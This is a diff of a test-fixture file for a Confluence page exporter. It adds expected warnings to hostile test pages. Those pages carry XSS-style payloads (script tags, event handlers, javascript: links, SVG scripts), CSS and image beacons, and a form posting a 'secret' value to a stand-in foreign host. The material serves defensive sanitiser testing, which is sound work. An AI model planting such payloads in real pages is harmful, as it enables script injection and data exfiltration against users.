@@ -26,7 +26,28 @@ export interface HostileCase {
   body(c: BodyContext): string;
   /** A sentence that must reach the PDF when the export succeeds (none for empty bodies). */
   marker?: string;
+  /** How the export through the extension must end: exactly these warnings, or this refusal. */
+  expected: HostileOutcome;
 }
+
+/**
+ * A warning as the export reports it. `{foreign}` in a message stands for the foreign host
+ * (`127.0.0.2:<port>`, see foreign.ts).
+ */
+export interface ExpectedWarning {
+  kind: string;
+  message: string;
+  /** Given on this site only. */
+  site?: 'dc' | 'cloud';
+}
+
+export type HostileOutcome = { exported: ExpectedWarning[] } | { refused: string };
+
+const imageNotIncluded = (what: string, site?: 'dc' | 'cloud'): ExpectedWarning => ({
+  kind: 'image-failed',
+  message: `Image not included: ${what}`,
+  ...(site ? { site } : {}),
+});
 
 /** The unresolvable host used next to the loopback one. */
 export const INVALID_HOST = 'beacon.offprint.invalid';
@@ -44,6 +65,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'scripts',
     title: 'Hostile: scripts',
     attack: '<script> setting a canary global and fetching a foreign origin',
+    expected: { exported: [] },
     body: (c) =>
       [
         p('Before the scripts.'),
@@ -60,6 +82,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'event-handlers',
     title: 'Hostile: event handlers',
     attack: 'onerror / onload / onmouseover / ontoggle / onfocus handlers',
+    expected: { exported: [imageNotIncluded('missing.png (HTTP 404)')] },
     body: (c) =>
       [
         `<p onmouseover="${pwn(c, 'onmouseover')}">Hover text with a handler.</p>`,
@@ -76,6 +99,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'links',
     title: 'Hostile: dangerous links',
     attack: 'javascript:, data:, vbscript: links (obfuscated too) and a tracking ping',
+    expected: { exported: [] },
     body: (c) =>
       [
         `<p><a href="javascript:${encodeURIComponent(pwn(c, 'js-link'))}">javascript link</a></p>`,
@@ -94,6 +118,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     title: 'Hostile: SVG',
     attack:
       'inline SVG with <script> and <foreignObject>; SVG images (file and data:) with scripts',
+    expected: { exported: [] },
     body: (c) =>
       [
         `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><script>${pwn(c, 'inline-svg-script')}</script><foreignObject width="120" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${c.foreign}/beacon?foreign-object"></iframe></foreignObject><image href="${c.foreign}/beacon.png?svg-image" width="10" height="10"/><text x="5" y="20">inline svg</text></svg>`,
@@ -106,6 +131,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'frames',
     title: 'Hostile: frames and plugins',
     attack: '<iframe> (foreign src, srcdoc with script), <object>, <embed>',
+    expected: { exported: [] },
     body: (c) =>
       [
         `<iframe src="${c.foreign}/beacon?iframe" width="100" height="50"></iframe>`,
@@ -121,6 +147,16 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     title: 'Hostile: CSS and resource beacons',
     attack:
       'CSS url() / @import / @font-face, <link>, srcset, <picture>, poster, background beacons',
+    expected: {
+      exported: [
+        imageNotIncluded(
+          'beacon.png (hosted on {foreign}, outside this Confluence site; not fetched)',
+        ),
+        imageNotIncluded(
+          `beacon.png (hosted on ${INVALID_HOST}, outside this Confluence site; not fetched)`,
+        ),
+      ],
+    },
     body: (c) =>
       [
         `<style>@import url("${c.foreign}/beacon.css?import"); .hostile-bg{background-image:url("${c.foreign}/beacon.png?css-class")} @font-face{font-family:Evil;src:url("${c.foreign}/beacon.woff?font-face")} .hostile-font{font-family:Evil}</style>`,
@@ -140,6 +176,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'forms',
     title: 'Hostile: forms',
     attack: 'form actions, formaction=javascript:, input type=image to a foreign host',
+    expected: { exported: [] },
     body: (c) =>
       [
         `<form action="${c.foreign}/collect" method="post"><input name="secret" value="s3cret"><button type="submit">Send</button><button formaction="javascript:${encodeURIComponent(pwn(c, 'formaction'))}">Do it</button><input type="image" src="${c.foreign}/beacon.png?input-image" alt="submit image"></form>`,
@@ -151,6 +188,15 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'base-href',
     title: 'Hostile: base href',
     attack: '<base href> to a foreign host, so relative links and images would point there',
+    expected: {
+      exported: [
+        // On Cloud relative.png resolves under the page (/wiki/spaces/DOC/pages/9008/), whose
+        // route answers the page itself, not a 404.
+        imageNotIncluded('relative.png (HTTP 404)', 'dc'),
+        imageNotIncluded('relative.png (not a readable image)', 'cloud'),
+        imageNotIncluded('relative-media.png (HTTP 404)'),
+      ],
+    },
     body: (c) =>
       [
         `<base href="${c.foreign}/based/">`,
@@ -164,6 +210,11 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'media-origin-spoof',
     title: 'Hostile: spoofed media origin',
     attack: 'a Cloud media node whose image lives on a foreign host',
+    expected: {
+      exported: [
+        imageNotIncluded('image (hosted on {foreign}, outside this Confluence site; not fetched)'),
+      ],
+    },
     body: (c) =>
       [
         `<div class="mediaSingleView-content-wrap" data-node-type="mediaSingle"><div data-node-type="media" data-type="file" data-file-mime-type="image/png"><img src="${c.foreign}/file/0b7a4a2a-0000-4000-8000-000000000000/image?token=x&amp;client=y&amp;collection=contentId-9009" alt="spoofed media"></div></div>`,
@@ -174,6 +225,9 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'deep-nesting',
     title: 'Hostile: deep nesting',
     attack: '10,000-deep nesting: parsed markup, and DOM built by script past the parser limit',
+    expected: {
+      exported: [{ kind: 'too-deep', message: 'Content nested too deeply was kept as plain text' }],
+    },
     body: () =>
       [
         `${'<div>'.repeat(10_000)}Bottom of the parsed nesting.${'</div>'.repeat(10_000)}`,
@@ -192,6 +246,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'huge-text-node',
     title: 'Hostile: 5 MB text node',
     attack: 'a single 5 MB text node',
+    expected: { exported: [] },
     body: () => `<p>${hugeText(5 * 1024 * 1024)}</p>`,
   },
   {
@@ -199,6 +254,18 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'images',
     title: 'Hostile: bad images',
     attack: 'broken, zero-byte, truncated PNG, 50-megapixel PNG, TIFF, random bytes, bad data: URL',
+    expected: {
+      exported: [
+        imageNotIncluded('missing.png (HTTP 404)'),
+        imageNotIncluded('zero-byte.png (empty file)'),
+        imageNotIncluded('truncated.png (not a readable image)'),
+        imageNotIncluded('scan.tiff (not a readable image)'),
+        imageNotIncluded('random.png (not a readable image)'),
+        imageNotIncluded('random.bin (not a readable image)'),
+        imageNotIncluded('png;base64,!!!not-base64!!! (Failed to fetch)'),
+        imageNotIncluded('png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB (not a readable image)'),
+      ],
+    },
     body: (c) =>
       [
         'missing.png',
@@ -226,6 +293,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'malformed-tables',
     title: 'Hostile: malformed tables',
     attack: 'ragged rows, rowspan past the end, colspan 0 / 1000 / negative, empty tables',
+    expected: { exported: [] },
     body: () =>
       [
         `<div class="table-wrap"><table class="confluenceTable"><tbody>`,
@@ -250,6 +318,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'empty',
     title: 'Hostile: empty page',
     attack: 'a page with an empty body',
+    expected: { exported: [] },
     body: () => '',
   },
   {
@@ -257,6 +326,12 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     slug: 'macros-only',
     title: 'Hostile: only macros',
     attack: 'a page made only of macros, most with no visible content',
+    expected: {
+      exported: ['gliffy', 'roadmap', 'jira', 'com.example:macro'].map((name) => ({
+        kind: 'unhandled-macro',
+        message: `unhandled macro ${name}`,
+      })),
+    },
     body: () =>
       [
         `<div class="conf-macro output-block" data-macro-name="gliffy" data-hasbody="false"></div>`,
@@ -273,6 +348,7 @@ const CASES: Omit<HostileCase, 'marker'>[] = [
     title: 'Hostile: 20 MB page',
     attack:
       'a 20 MB body: 2,000 paragraphs, each bloated with ~10 KB of attributes and hidden markup',
+    expected: { exported: [] },
     body: () => twentyMb(),
   },
 ];
